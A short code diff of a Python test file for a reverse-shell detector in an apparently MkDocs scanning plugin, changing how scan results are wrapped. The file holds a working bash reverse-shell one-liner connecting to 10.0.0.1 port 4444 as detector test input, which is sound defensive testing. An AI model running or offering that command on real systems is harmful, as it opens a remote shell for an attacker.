@@ -12,12 +12,13 @@ import pytest
 from mkdocs_threatpub.scanners.base import Hit
 from mkdocs_threatpub.scanners.detectors.reverse_shell import DETECTOR
 from mkdocs_threatpub.scanners.document import Document, Segment, document_from_text
+from tests.detectors._network import translated
 
 BASH = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
 
 
 def scan(text: str) -> list[Hit]:
-    return list(DETECTOR.scan(document_from_text(text)))
+    return translated(list(DETECTOR.scan(document_from_text(text))))
 
 
 def fenced(body: str, lang: str = "") -> str:
